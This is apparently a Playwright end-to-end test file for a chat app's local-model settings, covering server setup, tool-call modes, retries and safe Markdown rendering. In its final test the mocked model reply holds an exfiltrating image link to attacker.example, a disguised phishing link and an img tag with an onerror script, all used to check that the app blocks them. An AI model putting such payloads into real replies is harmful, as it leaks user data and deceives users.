import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { HeadlessHost } from './headless-host';
import { refusingRequests } from './refuse-requests';

let host: HeadlessHost;
let server: Server;
let baseUrl = '';
/** While true the server answers chat requests 503, as llama.cpp does while its model loads. */
let loading = false;
/** While true the model ends its reply at once, without a word, as small local models sometimes do. */
let silent = false;
/** While true the model takes the request and says nothing, as a local server loading a model or reading a long prompt. */
let hanging = false;
/** What the model answers a plain message: these words, or the words for what it was sent. */
let answer: string | ((messages: { role: string; content?: unknown }[]) => string) = 'Hello from the local model.';
/** While false the model never calls a tool natively, as small local models often do not. */
let nativeTools = true;

/** A tiny llama.cpp-like server: it calls the echo probe natively, otherwise says hello, and has an 8,192-token context. */
function sse(chunks: unknown[]): string {
  return `${chunks.map((c) => `data: ${JSON.stringify(c)}\n\n`).join('')}data: [DONE]\n\n`;
}
const base = { id: 'c', object: 'chat.completion.chunk', created: 0, model: 'e2e-model' };

test.beforeEach(async () => {
  server = createServer(async (req, res) => {
    if (req.method === 'GET' && req.url === '/v1/models') {
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ data: [{ id: 'e2e-model' }] }));
      return;
    }
    if (req.method === 'GET' && req.url === '/props') {
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ default_generation_settings: { n_ctx: 8192 } }));
      return;
    }
    if (req.url !== '/v1/chat/completions') {
      res.writeHead(404).end();
      return;
    }
    let body = '';
    for await (const chunk of req) body += chunk;
    if (loading) {
      res.writeHead(503, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { message: 'Loading model', type: 'unavailable_error' } }));
      return;
    }
    const { tools = [], messages } = JSON.parse(body) as { tools?: { function: { name: string } }[]; messages: { role: string; content?: unknown }[] };
    res.writeHead(200, { 'content-type': 'text/event-stream' });
    if (hanging) return;
    if (nativeTools && tools.some((t) => t.function.name === 'probe__echo')) {
      res.end(sse([
        { ...base, choices: [{ index: 0, delta: { tool_calls: [{ index: 0, id: 'p', type: 'function', function: { name: 'probe__echo', arguments: '{"word":"portcullis"}' } }] }, finish_reason: null }] },
        { ...base, choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] },
      ]));
    } else if (silent) {
      res.end(sse([{ ...base, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }]));
    } else {
      const content = typeof answer === 'string' ? answer : answer(messages);
      res.end(sse([{ ...base, choices: [{ index: 0, delta: { content }, finish_reason: null }] }, { ...base, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }]));
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
  loading = false;
  silent = false;
  hanging = false;
  answer = 'Hello from the local model.';
  nativeTools = true;
  host = new HeadlessHost();
  await host.start();
});

test.afterEach(async () => {
  await host.stop();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

/** Settings → Model with "Local server" chosen, the test's server address and model typed in, nothing saved. */
async function localServerFilledIn(page: Page) {
  await page.goto(host.url);
  await page.getByRole('button', { name: 'Settings' }).click();
  const panel = page.getByTestId('model-settings');
  await panel.getByLabel(/Local server/).check();
  await panel.getByLabel('Server address').fill(baseUrl);
  await panel.getByLabel('Model', { exact: true }).fill('e2e-model');
  return panel;
}

test('Settings: choose a local server, test it, save it, and chat through it', async ({ page }) => {
  const slowHost = await refusingRequests(page);
  await page.goto(host.url);
  await page.getByRole('button', { name: 'Settings' }).click();
  const panel = page.getByTestId('model-settings');
  await expect(panel.getByTestId('active-model')).toContainText('Built-in');
  await panel.getByLabel(/Local server/).check();
  // Looking again for local servers keeps the keyboard on the button (it waits as aria-disabled, not disabled).
  const lookAgain = panel.getByRole('button', { name: 'Look again' });
  await lookAgain.focus();
  slowHost.slowNext('models.detect');
  await page.keyboard.press('Enter');
  await expect(lookAgain).toHaveAttribute('aria-disabled', 'true');
  await expect(lookAgain).not.toHaveAttribute('aria-disabled');
  await expect(lookAgain).toBeFocused();
  await panel.getByLabel('Server address').fill(baseUrl);
  // Test and Save are disabled until a model is named, and the panel says so.
  await expect(panel.getByRole('button', { name: 'Test' })).toBeDisabled();
  await expect(panel.getByTestId('model-needed')).toHaveText('Test and Save wait for a model: pick one of a server found above, or type its name.');
  await panel.getByLabel('Model', { exact: true }).fill('e2e-model');
  await expect(panel.getByTestId('model-needed')).toHaveCount(0);
  await panel.getByRole('button', { name: 'Test' }).click();
  await expect(panel.getByTestId('model-test-result')).toContainText('calls tools natively');
  await expect(panel.getByTestId('model-context')).toHaveText('The server says the context window is 8,192 tokens (llama.cpp server).');
  await panel.getByRole('button', { name: 'Save' }).click();
  await expect(panel.getByTestId('active-model')).toContainText(`e2e-model on ${baseUrl}`);
  // The first screen under it names the model saved, not the built-in one it named when the page opened.
  await expect(page.getByTestId('empty-state').getByTestId('model-name')).toHaveText(`e2e-model on ${baseUrl}`);
  // The keyboard stays where it was pressed while it saved (a disabled button dropped it to the page).
  await expect(panel.getByRole('button', { name: 'Save' })).toBeFocused();

  await page.getByRole('button', { name: 'Close model settings' }).click();
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('hello there');
  await box.press('Enter');
  await expect(page.locator('[data-testid="message"][data-role="assistant"]').last()).toContainText('Hello from the local model.');
  // The meter above the message box says what the model is sent of the chat, against its context.
  await expect(page.getByTestId('context-meter')).toContainText(/^History sent: ~\d+ of [\d,]+ tokens \(context 8,192, llama\.cpp server\)$/);
});

test('Settings: a server on another port is asked for its models when its address is typed, and one is picked with a click', async ({ page }) => {
  await page.goto(host.url);
  await page.getByRole('button', { name: 'Settings' }).click();
  const panel = page.getByTestId('model-settings');
  await panel.getByLabel(/Local server/).check();
  await expect(panel.getByTestId('no-servers')).toContainText('enter its address below and Look again for its models');
  // As LM Studio moved off 1234, or on another machine: typed with localhost and a trailing slash.
  await panel.getByLabel('Server address').fill(`${baseUrl.replace('127.0.0.1', 'localhost')}/`);
  await panel.getByRole('button', { name: 'Look again' }).click();
  const list = panel.getByTestId('server-list');
  await expect(list).toContainText('At the server address below');
  await list.getByRole('button', { name: 'e2e-model' }).click();
  await expect(panel.getByLabel('Model', { exact: true })).toHaveValue('e2e-model');
  await panel.getByRole('button', { name: 'Test' }).click();
  await expect(panel.getByTestId('model-test-result')).toContainText('calls tools natively');
  await panel.getByRole('button', { name: 'Save' }).click();
  await expect(panel.getByTestId('active-model')).toContainText('e2e-model on');
  // Opened again, the saved server lists its models at once, to switch between them.
  await page.reload();
  await page.getByRole('button', { name: 'Settings' }).click();
  await page.getByRole('button', { name: 'Go to the Model card' }).click();
  await expect(page.getByTestId('model-settings').getByTestId('server-list')).toContainText('At the server address below');
});

test('Settings: a server saved at an address typed without Look again is listed with its models at once', async ({ page }) => {
  await page.goto(host.url);
  await page.getByRole('button', { name: 'Settings' }).click();
  const panel = page.getByTestId('model-settings');
  await panel.getByLabel(/Local server/).check();
  await expect(panel.getByTestId('no-servers')).toBeVisible();
  await panel.getByLabel('Server address').fill(baseUrl.replace('127.0.0.1', 'localhost'));
  await panel.getByLabel('Model', { exact: true }).fill('e2e-model');
  await panel.getByRole('button', { name: 'Save' }).click();
  await expect(panel.getByTestId('active-model')).toContainText('e2e-model on');
  await expect(panel.getByTestId('server-list')).toContainText('At the server address below');
  await expect(panel.getByTestId('no-servers')).toHaveCount(0);
});

test('Settings: an address typed without /v1, as LM Studio shows it, lists the models under /v1; one that answers nothing says so', async ({ page }) => {
  await page.goto(host.url);
  await page.getByRole('button', { name: 'Settings' }).click();
  const panel = page.getByTestId('model-settings');
  await panel.getByLabel(/Local server/).check();
  const address = panel.getByLabel('Server address');
  await address.fill(baseUrl.replace(/\/v1$/, '').replace('127.0.0.1', 'localhost'));
  await panel.getByRole('button', { name: 'Look again' }).click();
  const list = panel.getByTestId('server-list');
  await expect(list).toContainText(`At the server address below ${baseUrl.replace('127.0.0.1', 'localhost')}`);
  await expect(panel.getByTestId('address-unanswered')).toHaveCount(0);
  // Picked, the model's address is the one that lists it, and Test works at once.
  await list.getByRole('button', { name: 'e2e-model' }).click();
  await expect(address).toHaveValue(baseUrl.replace('127.0.0.1', 'localhost'));
  await panel.getByRole('button', { name: 'Test' }).click();
  await expect(panel.getByTestId('model-test-result')).toContainText('calls tools natively');

  // Nothing listens there: said beside the list, where Look again used to change nothing on the page.
  const nothing = baseUrl.replace(/:\d+\/v1$/, ':9');
  await address.fill(nothing);
  await panel.getByRole('button', { name: 'Look again' }).click();
  await expect(panel.getByTestId('address-unanswered')).toContainText(`Nothing at ${nothing} answered with its models (nor under /v1).`);
  // Its Test says nothing answered, and not that the server "did not say how large the model's context is".
  await panel.getByRole('button', { name: 'Test' }).click();
  await expect(panel.getByTestId('model-test-result')).toContainText(`Is the server running at ${nothing}?`);
  await expect(panel.getByTestId('model-context')).toHaveCount(0);
});

test("Settings: a local model's name is not carried to a hosted API when the provider is switched, and comes back on the way back", async ({ page }) => {
  const panel = await localServerFilledIn(page);
  const name = panel.getByLabel('Model', { exact: true });
  await panel.getByLabel(/OpenAI/).check();
  await expect(name).toHaveValue('');
  await expect(name).toHaveAttribute('placeholder', 'e.g. gpt-4.1');
  await panel.getByLabel(/Anthropic/).check();
  await expect(name).toHaveAttribute('placeholder', 'e.g. claude-sonnet-4-5');
  await name.fill('claude-sonnet-4-5');
  await panel.getByLabel(/Local server/).check();
  await expect(name).toHaveValue('e2e-model');
  await panel.getByLabel(/Anthropic/).check();
  await expect(name).toHaveValue('claude-sonnet-4-5');
});

test('Settings lists Model, as README\'s "Settings → Model" says, and its button takes the keyboard to the Model card', async ({ page }) => {
  await page.goto(host.url);
  await page.getByRole('button', { name: 'Settings' }).click();
  const section = page.getByTestId('settings-panel').getByRole('region', { name: 'Model' });
  await expect(section).toContainText('the Model card beside this panel');
  await section.getByRole('button', { name: 'Go to the Model card' }).click();
  await expect(page.getByTestId('model-settings').getByRole('heading', { name: 'Model', level: 2 })).toBeFocused();
});

test('Settings: a model that calls tools only as prompted JSON gets that mode from its Test, which Save keeps', async ({ page }) => {
  nativeTools = false;
  answer = '{"tool_calls":[{"name":"probe.echo","arguments":{"word":"portcullis"}}]}';
  const panel = await localServerFilledIn(page);
  await expect(panel.getByLabel('Tool calls')).toHaveValue('native');
  await panel.getByRole('button', { name: 'Test' }).click();
  await expect(panel.getByTestId('model-test-result')).toContainText('does not call tools natively');
  await expect(panel.getByLabel('Tool calls')).toHaveValue('prompted');
  await expect(panel.getByTestId('tool-mode-set')).toHaveText('Tool calls is now Prompted JSON, as the test found; Save keeps it.');
  await panel.getByRole('button', { name: 'Save' }).click();
  await expect(panel.getByTestId('active-model')).toContainText('e2e-model');
  // Saved so: the form starts from it after a reload.
  await page.reload();
  await page.getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByTestId('model-settings').getByLabel('Tool calls')).toHaveValue('prompted');
});

test('Settings: a server address and an API key that cannot be right are said so in place, and nothing is sent', async ({ page }) => {
  await page.goto(host.url);
  await page.getByRole('button', { name: 'Settings' }).click();
  const panel = page.getByTestId('model-settings');
  await panel.getByLabel(/Local server/).check();
  await panel.getByLabel('Model', { exact: true }).fill('e2e-model');
  const address = panel.getByLabel('Server address');
  await address.fill('not a url');
  await expect(panel.getByText('The server address is a URL starting with http:// or https://')).toBeVisible();
  await expect(address).toHaveAttribute('aria-invalid', 'true');
  await expect(panel.getByRole('button', { name: 'Test' })).toBeDisabled();

  await panel.getByLabel(/Anthropic/).check();
  await panel.getByLabel('Model', { exact: true }).fill('claude-test');
  const key = panel.getByLabel(/API key/);
  await key.fill('sk-ant');
  await expect(panel.getByText('An API key is at least 8 characters long')).toBeVisible();
  await expect(key).toHaveAttribute('aria-invalid', 'true');
  await expect(panel.getByRole('button', { name: 'Save' })).toBeDisabled();
  await key.fill('sk-ant-long-enough');
  await expect(panel.getByText('An API key is at least 8 characters long')).toHaveCount(0);
  await expect(panel.getByRole('button', { name: 'Save' })).toBeEnabled();
});

test('Settings: a context window the person sets is checked, saved, and shown beside what the server says; so is whether the model sees images', async ({ page }) => {
  const panel = await localServerFilledIn(page);
  const field = panel.getByLabel('Context window (tokens)');
  await field.fill('lots');
  await expect(panel.getByText(/a whole number of tokens, from 512/)).toBeVisible();
  await expect(field).toHaveAttribute('aria-invalid', 'true');
  await expect(panel.getByRole('button', { name: 'Save' })).toBeDisabled();

  await field.fill('4,096');
  // A vision model: the person says so, and it is kept with the rest.
  await panel.getByLabel(/The model sees images/).check();
  await panel.getByRole('button', { name: 'Test' }).click();
  await expect(panel.getByTestId('model-context')).toHaveText('The server says the context window is 8,192 tokens (llama.cpp server). Your figure, 4,096, is used.');
  await panel.getByRole('button', { name: 'Save' }).click();
  const saved = panel.getByRole('status').filter({ hasText: 'Saved.' });
  await expect(saved).toBeVisible();
  // Edited again, the form is no longer what was saved.
  await field.fill('2048');
  await expect(saved).toHaveCount(0);
  await field.fill('4096');

  await page.reload();
  await page.getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByTestId('model-settings').getByLabel('Context window (tokens)')).toHaveValue('4096');
  await expect(page.getByTestId('model-settings').getByLabel(/The model sees images/)).toBeChecked();
});

test('A turn the local server failed says why and can be retried, also after a reload, without sending the message twice', async ({ page }) => {
  await host.useLocalModel(baseUrl);
  loading = true;
  await page.goto(host.url);
  // The first screen names the model once, as a person reads it.
  await expect(page.getByTestId('model-name')).toHaveText(`e2e-model on ${baseUrl}`);
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('hello there');
  await box.press('Enter');
  const notice = page.getByTestId('turn-error');
  await expect(notice).toContainText(/The turn stopped: .*503/);
  await expect(notice.getByRole('button', { name: 'Retry' })).toBeVisible();
  // Its words say to check Settings → Model: that is one press away, with the keyboard on the Model card.
  await notice.getByRole('button', { name: 'Model settings' }).press('Enter');
  await expect(page.getByTestId('model-settings')).toBeVisible();
  await expect(page.getByTestId('model-settings').getByRole('heading', { name: 'Model', exact: true })).toBeFocused();
  await page.getByRole('button', { name: 'Settings', exact: true }).click();
  await expect(page.getByTestId('model-settings')).toHaveCount(0);

  // After a reload the live error is gone, but the conversation still says its last turn has no answer.
  await page.reload();
  await page.getByRole('navigation', { name: 'Conversations' }).getByTestId('conversation').first().click();
  await expect(notice).toHaveText(/The last turn ended before the model answered; its trace says why\./);
  await notice.getByRole('button', { name: 'Trace' }).click();
  await expect(page.getByTestId('trace-panel')).toContainText('invoke_agent');
  await page.keyboard.press('Escape');

  loading = false;
  await notice.getByRole('button', { name: 'Retry' }).click();
  await expect(page.locator('[data-testid="message"][data-role="assistant"]').last()).toContainText('Hello from the local model.');
  await expect(notice).toHaveCount(0);
  await expect(page.locator('[data-testid="message"][data-role="user"]')).toHaveCount(1);
});

test('A model that writes its tool calls as text says so, not as its answer; Test gives it prompted calls and Retry runs the call', async ({ page }) => {
  // As llama.cpp without --jinja hands on a Qwen or Hermes model's call: a <tool_call> block in its words.
  nativeTools = false;
  answer = (messages) => {
    // Its call's result comes back in the words of its prompt: a user message after the call.
    if (JSON.stringify(messages.at(-1)).includes('[result of fs.list]')) return 'The folder holds a.md.';
    const probe = JSON.stringify(messages).includes('probe.echo');
    return `<tool_call>\n${JSON.stringify(probe ? { name: 'probe.echo', arguments: { word: 'portcullis' } } : { name: 'fs.list', arguments: { path: '.' } })}\n</tool_call>`;
  };
  await host.useLocalModel(baseUrl);
  await page.goto(host.url);
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('list the folder');
  await box.press('Enter');
  const notice = page.getByTestId('turn-error');
  await expect(notice).toContainText('The model wrote its call of fs.list as text (fs.list {"path":"."}) instead of calling the tool, so nothing ran.');
  await expect(notice).toContainText('Press Test in Settings → Model');
  await expect(page.locator('[data-testid="message"][data-role="assistant"]')).toHaveCount(0);

  await page.getByRole('button', { name: 'Settings' }).click();
  const panel = page.getByTestId('model-settings');
  await panel.getByRole('button', { name: 'Test' }).click();
  await expect(panel.getByLabel('Tool calls')).toHaveValue('prompted');
  await panel.getByRole('button', { name: 'Save' }).click();
  await expect(panel.getByTestId('active-model')).toContainText('e2e-model');
  await page.getByRole('button', { name: 'Close model settings' }).click();

  await notice.getByRole('button', { name: 'Retry' }).click();
  await expect(page.locator('[data-testid="message"][data-answer="true"]').last()).toContainText('The folder holds a.md.');
  await expect(page.getByTestId('tool-call').last()).toContainText('fs.list');
  await expect(page.getByTestId('tool-call').last().getByTestId('tool-status')).toContainText('succeeded');
  await expect(notice).toHaveCount(0);
});

test('A model slow to say its first word is said to be waited on, with the wait, and Esc stops it', async ({ page }) => {
  await host.useLocalModel(baseUrl);
  hanging = true;
  await page.goto(host.url);
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('hello there');
  await box.press('Enter');
  const status = page.getByTestId('turn-status');
  await expect(status).toHaveText('Waiting for the model…');
  await expect(status).toHaveText(/^Waiting for the model… [3-9] s$/, { timeout: 8000 });
  await page.keyboard.press('Escape');
  await expect(page.getByTestId('turn-error')).toContainText('You stopped this turn.');
});

test('A reply the model ended without a word says so, rather than showing a blank answer', async ({ page }) => {
  await host.useLocalModel(baseUrl);
  silent = true;
  await page.goto(host.url);
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('hello there');
  await box.press('Enter');
  await expect(page.locator('[data-testid="message"][data-answer="true"]').last()).toContainText('The model ended its reply without any text.');
});

test('A reply is drawn as Markdown, safely: no HTML, no image loaded, every link says where it goes', async ({ page }) => {
  await host.useLocalModel(baseUrl);
  answer = [
    '## Plan',
    '',
    '1. Read **notes.md**',
    '2. Run `npm test`',
    '',
    '| file | lines |',
    '|---|---|',
    '| a.md | 3 |',
    '',
    '```sh',
    'npm test',
    '```',
    '',
    'See [the docs](https://docs.example.org/guide) and ![chart](https://attacker.example/leak?data=secret).',
    '',
    'Sign in at [https://bank.example/login?ref=attacker.example](https://attacker.example/phish?data=secret).',
    '',
    '<img src="https://attacker.example/x" onerror="document.title = \'owned\'">',
  ].join('\n');
  const loads: string[] = [];
  page.on('request', (request) => void (request.url().includes('attacker.example') && loads.push(request.url())));
  await page.goto(host.url);
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('plan it');
  await box.press('Enter');
  const reply = page.locator('[data-testid="message"][data-answer="true"]').last();
  await expect(reply.getByRole('heading', { name: 'Plan' })).toBeVisible();
  await expect(reply.getByRole('listitem')).toHaveText(['Read notes.md', 'Run npm test']);
  await expect(reply.locator('strong')).toHaveText('notes.md');
  await expect(reply.getByRole('table')).toContainText('a.md');
  await expect(reply.locator('pre code')).toHaveText('npm test');
  await expect(reply.getByRole('link', { name: 'the docs' })).toHaveAttribute('href', 'https://docs.example.org/guide');
  await expect(reply).toContainText('the docs (docs.example.org)');
  await expect(reply).toContainText('[image: chart attacker.example]');
  // Words that hold the host without being its address do not hide where the link goes.
  await expect(reply).toContainText('https://bank.example/login?ref=attacker.example (attacker.example)');
  await expect(reply.locator('img')).toHaveCount(0);
  await expect(reply).toContainText('<img src="https://attacker.example/x"'); // HTML is shown as the text it is
  expect(loads).toEqual([]);
  expect(await page.title()).not.toBe('owned');
  await page.screenshot({ path: test.info().outputPath('markdown-reply.png') });
});
